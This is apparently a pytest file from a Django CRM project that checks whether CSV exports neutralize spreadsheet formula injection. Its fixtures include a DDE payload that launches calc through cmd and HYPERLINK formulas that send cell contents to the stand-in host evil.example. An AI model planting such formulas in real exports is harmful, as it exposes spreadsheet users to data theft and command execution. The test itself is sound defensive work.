"""CSV exports never hand a spreadsheet a formula (issue #17, finding 11)."""

import csv
import io

import pytest
from django.test import Client
from django.urls import reverse

from lbsup.audit.actors import SYSTEM
from lbsup.core.spreadsheet import safe_cell
from lbsup.crm.actions import do_create_contact

# What the OWASP "CSV injection" page and spreadsheet behaviour list: the four formula
# starts, tab/CR/LF in front, and spaces (Excel trims them) or wide forms in front of one.
FORMULAS = [
    "=1+1", "+1+1", "-1+1", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "   +cmd|' /C calc'!A0",
    "\u00a0=HYPERLINK(\"http://evil.example/?\"&A1)", "\uff1d1+1", "\t", "\rplain",
]
TEXT = ["plain", "Müller, Bernd", "a=b", "5 stars", "", "mail@example.com"]


@pytest.mark.parametrize("value", FORMULAS)
def test_it_neutralizes_a_formula_start(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", TEXT)
def test_it_leaves_text_alone(value):
    assert safe_cell(value) == value


def test_it_keeps_numbers_as_numbers():
    assert [safe_cell(v) for v in (-3, 0, 2.5, None)] == ["-3", "0", "2.5", ""]


def test_it_exports_a_contact_with_a_space_hidden_formula_as_text(personas):
    do_create_contact(SYSTEM, personas.dental, name=' =HYPERLINK("http://evil.example/?"&A1)',
                      emails=["evil@x.example"])
    client = Client()
    client.force_login(personas.lena)
    response = client.get(reverse("crm_contacts_csv", args=["bright-smile"]))
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    names = [row[1] for row in rows[1:]]
    assert "' =HYPERLINK(\"http://evil.example/?\"&A1)" in names
    assert not any(name.lstrip().startswith(("=", "+", "-", "@")) for name in names)
